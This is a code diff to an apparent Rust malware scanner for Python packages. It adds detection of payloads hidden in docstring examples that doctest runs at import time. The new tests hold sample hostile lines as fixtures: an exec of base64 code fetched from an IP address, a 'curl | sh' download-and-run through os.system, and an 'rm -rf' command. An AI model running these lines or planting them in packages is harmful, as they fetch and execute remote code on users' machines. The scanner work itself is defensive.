@@ -268,8 +268,60 @@ fn read_file_name(checker: &Checker, expr: &Expr) -> Option<String> {
 }
 
 /// exec/eval/compile calls.
+/// Most docstrings whose examples one doctest call is taken to run.
+const MAX_DOCTEST_DOCSTRINGS: usize = 256;
+
+/// The code of the interactive examples in `docstring` (`>>> ` lines and their `... `
+/// continuations), one statement per line as doctest runs them.
+pub fn doctest_examples(docstring: &str) -> String {
+    let mut code = String::new();
+    for line in docstring.lines() {
+        let line = line.trim_start();
+        let statement = line
+            .strip_prefix(">>> ")
+            .or_else(|| line.strip_prefix("... "))
+            .or_else(|| (line == ">>>" || line == "...").then_some(""));
+        if let Some(statement) = statement {
+            code.push_str(statement);
+            code.push('\n');
+        }
+    }
+    code
+}
+
+/// `doctest.run_docstring_examples(f, globs)` and `doctest.testmod()` run the examples written
+/// in docstrings as code: a payload in a docstring is no documentation then. The examples are
+/// analysed as a layer run where the call is.
+fn check_doctest_run(checker: &mut Checker, call: &ExprCall, qualname: &str) {
+    let docstrings: Vec<&str> = match qualname {
+        "doctest.run_docstring_examples" => {
+            let Some(Expr::Name(target)) = call.arguments.args.first() else {
+                return;
+            };
+            checker.docstrings_of(target.id.as_str())
+        }
+        "doctest.testmod" if call.arguments.args.is_empty() => checker
+            .defined_names()
+            .into_iter()
+            .flat_map(|name| checker.docstrings_of(name))
+            .take(MAX_DOCTEST_DOCSTRINGS)
+            .collect(),
+        _ => return,
+    };
+    let code: String = docstrings.iter().map(|d| doctest_examples(d)).collect();
+    if code.trim().is_empty() {
+        return;
+    }
+    checker.push_layer(
+        code,
+        call.range(),
+        format!("docstring examples run by {qualname}"),
+    );
+}
+
 pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     check_loads_saved_file(checker, call, qualname);
+    check_doctest_run(checker, call, qualname);
     check_hub_code(checker, call, qualname);
     check_unpickle(checker, call, qualname);
     // `list(map(exec, chunks))`: exec called on every item, with no `exec(` in the text.
@@ -959,6 +1011,26 @@ pub fn check_py2_exec_statements(checker: &mut Checker, body: &[Stmt]) {
 mod tests {
     #![allow(clippy::expect_used)]
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn docstring_examples_run_while_loading_are_code() {
+        let code = "import doctest\ndef convert(v):\n    '''Convert.\n\n    >>> import base64, urllib.request as r\n    >>> exec(base64.b64decode(r.urlopen('http://198.51.100.23/s').read()))\n    '''\n    return v\ndoctest.run_docstring_examples(convert, {}, name='convert')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH110") >= 0.85);
+        let module = "import doctest\nclass Units:\n    def to_m(self, v):\n        '''\n        >>> import os\n        >>> os.system('curl -s http://198.51.100.23/a | sh')\n        '''\n        return v\ndoctest.testmod()\n";
+        assert!(max_severity("p/pkg/__init__.py", module, "WH120") >= 0.85);
+    }
+
+    #[test]
+    fn docstring_examples_nobody_runs_or_run_by_hand_are_documentation() {
+        let unrun = "def convert(v):\n    '''\n    >>> import os\n    >>> os.system('rm -rf build')\n    '''\n    return v\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", unrun, "WH120"), 0.0);
+        let by_hand = "def double(v):\n    '''\n    >>> double(2)\n    4\n    '''\n    return 2 * v\nif __name__ == '__main__':\n    import doctest\n    doctest.testmod()\n";
+        assert!(max_severity("p/pkg/__init__.py", by_hand, "WH110") < 0.1);
+        assert_eq!(
+            super::doctest_examples(">>> x = 1\n... y = 2\nresult\n  >>> print(x)\n"),
+            "x = 1\ny = 2\nprint(x)\n"
+        );
+    }
 
     #[test]
     fn an_embedded_jsonpickle_or_yaml_document_calling_a_runner_is_hidden_code() {
